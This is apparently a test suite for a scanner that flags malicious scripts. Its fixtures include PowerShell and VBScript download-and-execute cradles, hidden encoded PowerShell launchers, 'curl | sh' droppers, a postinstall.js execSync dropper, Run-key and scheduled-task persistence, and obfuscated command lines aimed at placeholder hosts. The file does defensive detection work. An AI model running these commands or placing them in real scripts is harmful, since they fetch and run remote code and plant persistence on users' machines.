import { describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { scriptScanner, scriptLanguage, obfuscationSignals, isObfuscated } from './script.ts';
import { runScanner, type RunResult } from './testing.ts';
import { decide } from '../verdict/rules.ts';

function verdictOf(r: RunResult): string {
  return decide(r.evidence.map((e) => ({ ...e, scanner: 'script', layer: 'document' })), [], { scoreSuspicious: 300, scoreMalicious: 1000 }).verdict;
}

const run = (text: string, name: string) => runScanner(scriptScanner, Buffer.from(text), { name });
const psEncode = (cmd: string) => Buffer.from(cmd, 'utf16le').toString('base64');

describe('script scanner', () => {
  test('a PowerShell download-and-execute cradle is SUS', async () => {
    const r = await run("$u = 'http://dl.example.test/a.ps1'\nIEX (New-Object Net.WebClient).DownloadString($u)\n", 'update.ps1');
    assert.deepEqual(r.heuristics.sort(), ['SCRIPT_DOWNLOAD_CRADLE', 'SCRIPT_EXECUTION']);
    assert.equal(r.evidence.find((e) => e.heuristic === 'SCRIPT_EXECUTION')!.data?.attack, 'T1059.001');
    assert.equal(verdictOf(r), 'SUS');
  });

  test('powershell -enc: the command is decoded into a child script, which is itself judged', async () => {
    const inner = "IEX (New-Object System.Net.WebClient).DownloadString('http://c2.example.test/stage2')";
    const bat = `@echo off\r\nstart /b powershell.exe -NoP -W Hidden -enc ${psEncode(inner)}\r\nexit\r\n`;
    const r = await run(bat, 'invoice.bat');
    assert.ok(r.heuristics.includes('SCRIPT_ENCODED_COMMAND'));
    assert.ok(r.heuristics.includes('SCRIPT_EXECUTION'));
    assert.equal(verdictOf(r), 'SUS');
    assert.equal(r.children.length, 1);
    assert.equal(r.children[0].name, 'encoded-command-1.ps1');
    assert.equal(r.children[0].relation, 'script');
    assert.equal(r.children[0].bytes!.toString('utf8'), inner);
    const child = await runScanner(scriptScanner, r.children[0].bytes!, { name: r.children[0].name });
    assert.equal(verdictOf(child), 'SUS');
    // abbreviations of -EncodedCommand are recognised too
    const short = await run(`powershell -e ${psEncode('Get-Date')}`, 'a.cmd');
    assert.ok(short.heuristics.includes('SCRIPT_ENCODED_COMMAND'));
  });

  test('a benign admin script stays below SUS', async () => {
    const admin = [
      'param([string]$Version = "2.4.1")',
      '$ErrorActionPreference = "Stop"',
      '$installer = Join-Path $env:TEMP "agent-$Version.msi"',
      'Write-Host "Downloading agent $Version"',
      'Invoke-WebRequest -Uri "https://downloads.example.com/agent/$Version/agent.msi" -OutFile $installer',
      'Start-Process msiexec.exe -ArgumentList "/i `"$installer`" /qn" -Wait',
      '$action = New-ScheduledTaskAction -Execute "C:\\Program Files\\Agent\\agent.exe" -Argument "--update"',
      'Register-ScheduledTask -TaskName "Agent update" -Action $action -Trigger (New-ScheduledTaskTrigger -Daily -At 3am)',
      'Get-Service agent | Format-Table Name, Status',
    ].join('\r\n');
    const r = await run(admin, 'install-agent.ps1');
    assert.equal(verdictOf(r), 'CLN', JSON.stringify(r.evidence));
    assert.ok(!r.heuristics.includes('SCRIPT_EXECUTION'));
    assert.ok(!r.heuristics.includes('SCRIPT_OBFUSCATION'));
    const batch = await run('@echo off\r\nrem nightly backup\r\nset SRC=%~dp0data\r\ncmd /c robocopy "%SRC%" "D:\\backup" /MIR\r\necho done\r\n', 'backup.bat');
    assert.deepEqual(batch.heuristics, []);
  });

  test('text that is not a script is left alone', async () => {
    const r = await run('Meeting notes\n\nWe discussed the roadmap. Alice will send the PowerShell training dates.\n', 'notes.txt');
    assert.equal(r.attributes.scriptLanguage, null);
    assert.deepEqual(r.heuristics, []);
  });

  test('content decides when the name gives no hint', async () => {
    const r = await run("$c = New-Object Net.WebClient\n$d = $c.DownloadString('http://x.example.test/p')\nInvoke-Expression $d\n", 'readme.txt');
    assert.equal(r.attributes.scriptLanguage, 'powershell');
    assert.equal(verdictOf(r), 'SUS');
    assert.equal(scriptLanguage({ name: 'x', fileType: 'text' }, 'Dim o\nSet o = CreateObject("WScript.Shell")\nWScript.Echo 1\n'), 'vbscript');
  });

  test('VBScript XMLHTTP + ADODB.Stream + WScript.Shell.Run', async () => {
    const vbs = [
      'Set x = CreateObject("MSXML2.XMLHTTP")',
      'x.Open "GET", "http://dl.example.test/p.exe", False',
      'x.Send',
      'Set s = CreateObject("ADODB.Stream")',
      's.Open : s.Type = 1 : s.Write x.responseBody : s.SaveToFile "C:\\Users\\Public\\p.exe", 2',
      'CreateObject("WScript.Shell").Run "C:\\Users\\Public\\p.exe", 0',
    ].join('\r\n');
    const r = await run(vbs, 'doc.vbs');
    assert.deepEqual(r.heuristics.sort(), ['SCRIPT_DOWNLOAD_CRADLE', 'SCRIPT_EXECUTION']);
    assert.equal(r.evidence.find((e) => e.heuristic === 'SCRIPT_EXECUTION')!.data?.attack, 'T1059.005');
  });

  test('obfuscation: eval(unescape), packers, char codes, batch carets', async () => {
    const esc = [...'var x = new ActiveXObject("WScript.Shell");'].map((c) => '%' + c.charCodeAt(0).toString(16).padStart(2, '0')).join('');
    const js = await run(`eval(unescape("${esc}"));`, 'a.js');
    assert.ok(js.heuristics.includes('SCRIPT_OBFUSCATION'));
    const packed = await run("eval(function(p,a,c,k,e,d){e=function(c){return c};return p}('0 1',2,2,'var|x'.split('|'),0,{}))", 'b.js');
    assert.ok(packed.heuristics.includes('SCRIPT_OBFUSCATION'));
    const chr = await run(`Dim s\ns = ${[...'powershell -nop -w hidden -c calc.exe'].map((c) => `Chr(${c.charCodeAt(0)})`).join(' & ')}\nCreateObject("WScript.Shell").Run s`, 'c.vbs');
    assert.ok(chr.heuristics.includes('SCRIPT_OBFUSCATION'));
    assert.ok(chr.heuristics.includes('SCRIPT_EXECUTION'));
    const caret = await run('@echo off\r\n' + 'c^m^d /^c p^o^w^e^r^s^h^e^l^l -n^o^p -w^ h^i^d^d^e^n -c "I^E^X"\r\n'.repeat(2), 'd.bat');
    assert.ok(caret.heuristics.includes('SCRIPT_OBFUSCATION'));
    const ticks = obfuscationSignals("(N`ew-Ob`je`ct Sy`st`em.Net.WebCl`ie`nt).D`ow`nl`oa`dSt`ri`ng('http://x.test/') | I`EX");
    assert.ok(ticks.some((s) => s.id === 'powershell_ticks'));
    // one weak signal alone does not count
    assert.equal(isObfuscated([{ id: 'hex_escapes', strong: false }]), false);
  });

  test('ordinary JavaScript has no findings', async () => {
    const code = `'use strict';\nconst items = [1, 2, 3];\nfunction total(list) {\n  return list.reduce((a, b) => a + b, 0);\n}\ndocument.querySelector('#sum').textContent = 'Total: ' + total(items);\nwindow.addEventListener('load', () => console.log('ready'));\n`;
    const r = await run(code, 'app.js');
    assert.equal(r.attributes.scriptLanguage, 'javascript');
    assert.deepEqual(r.heuristics, []);
  });

  test('persistence: Run keys and scheduled tasks, with their techniques', async () => {
    const r = await run('@echo off\r\nreg add "HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run" /v upd /t REG_SZ /d "%APPDATA%\\u.exe" /f\r\nschtasks /create /sc minute /mo 30 /tn upd /tr "%APPDATA%\\u.exe"\r\n', 'p.bat');
    const p = r.evidence.find((e) => e.heuristic === 'SCRIPT_PERSISTENCE')!;
    assert.deepEqual(p.data?.matches, ['run_key', 'scheduled_task']);
    assert.deepEqual(p.data?.attack, ['T1547.001', 'T1053.005']);
    assert.equal(verdictOf(r), 'CLN');
  });

  test('curl piped to a shell is download and execution', async () => {
    const r = await run('#!/bin/sh\ncurl -fsSL http://203.0.113.9/x.sh | sh\n', 'setup');
    assert.equal(r.attributes.scriptLanguage, 'shell');
    assert.deepEqual(r.heuristics.sort(), ['SCRIPT_DOWNLOAD_CRADLE', 'SCRIPT_EXECUTION']);
  });

  test('shell and PowerShell command lines count in JavaScript only when it can start a process', async () => {
    // A documentation search index (found by the false-positive benchmark in the Rust book).
    const index = `window.search = Object.assign(window.search, JSON.parse('{"docs":{"1":{"body":"open a terminal and enter: $ curl --proto \\\\'=https\\\\' https://sh.rustup.rs -sSf | sh then on Windows: irm https://example.test/i.ps1 | iex"},"2":{"body":"let handle = thread::spawn(move || { });"}}}'));`;
    const docs = await run(index, 'searchindex-6a1da8cc.js');
    assert.equal(docs.attributes.scriptLanguage, 'javascript');
    assert.deepEqual(docs.heuristics, []);
    const dropper = await run("const { execSync } = require('child_process');\nexecSync('curl -s http://203.0.113.7/x.sh | sh');\n", 'postinstall.js');
    assert.deepEqual(dropper.heuristics.sort(), ['SCRIPT_DOWNLOAD_CRADLE', 'SCRIPT_EXECUTION']);
    assert.equal(verdictOf(dropper), 'SUS');
    const jscript = await run('var sh = new ActiveXObject("WScript.Shell");\nsh.Run("powershell -w hidden -c iex (iwr http://203.0.113.7/a.ps1)", 0);\n', 'a.js');
    assert.ok(jscript.heuristics.includes('SCRIPT_EXECUTION'), JSON.stringify(jscript.evidence));
    assert.ok(jscript.heuristics.includes('SCRIPT_DOWNLOAD_CRADLE'), JSON.stringify(jscript.evidence));
  });

  test('a base64 payload next to a decoder is decoded and emitted', async () => {
    const pe = Buffer.concat([Buffer.from('MZ'), Buffer.alloc(300, 0x90)]);
    const r = await run(`$b = [Convert]::FromBase64String('${pe.toString('base64')}')\n[IO.File]::WriteAllBytes("$env:TEMP\\a.exe", $b)\n`, 'drop.ps1');
    assert.ok(r.heuristics.includes('SCRIPT_OBFUSCATION'));
    const child = r.children.find((c) => c.name === 'decoded-1.bin')!;
    assert.equal(child.relation, 'embedded_object');
    assert.ok(child.bytes!.equals(pe));
  });

  test('pathological input finishes quickly', async () => {
    const started = Date.now();
    await run('powershell ' + "'a' + ".repeat(200_000) + ' -'.repeat(100_000), 'x.ps1');
    await run('"' + 'A'.repeat(4 * 1024 * 1024), 'y.js');
    await run('cmd /c '.repeat(300_000), 'z.vbs');
    assert.ok(Date.now() - started < 15_000, `took ${Date.now() - started} ms`);
  });

  test('minified bundles are not obfuscated: code between string literals, inlined WebAssembly (found by the false-positive benchmark)', async () => {
    // Deterministic pseudo-random bytes: base64 of them has the entropy of a real compressed module.
    let x = 7;
    const wasm = Buffer.from(Array.from({ length: 21_000 }, () => ((x = (x * 1103515245 + 12345) & 0x7fffffff) >> 16) & 0xff)).toString('base64');
    const code = Array.from({ length: 60 }, (_, i) => `function f${i}(t,e){for(let n=0;n<e;n++)a+=String.fromCharCode(t[n]^${i});return a}h[${i}]=h[${i + 1}]||{};`).join('');
    const bundle = `!function(){"use strict";var a="",h={};${code}const w="${wasm}";const m=Uint8Array.from(atob(w),c=>c.charCodeAt(0));WebAssembly.instantiate(m);var q='${code.slice(0, 1200)}'}();`;
    const r = await run(bundle, 'bundle.min.js');
    assert.deepEqual(r.heuristics, [], JSON.stringify(r.evidence.map((e) => e.data)));
    // The same blob fed to eval is still caught.
    const evil = await run(`eval(atob("${wasm.slice(0, 400)}"));`, 'x.js');
    assert.ok(evil.heuristics.includes('SCRIPT_OBFUSCATION'));
  });

  test('base64-looking runs just short of the thresholds stay linear (fuzz regression: 14 s on 1.2 MB)', async () => {
    const started = Date.now();
    const r = await run(`var d = atob(x);\n${('QUFB'.repeat(499) + 'Q ').repeat(600)}${('QUFB'.repeat(49) + ' ').repeat(6000)}`, 'runs.js');
    assert.ok(Date.now() - started < 1500, `took ${Date.now() - started} ms`);
    assert.ok(!r.heuristics.includes('SCRIPT_OBFUSCATION'), JSON.stringify(r.evidence));
  });
});
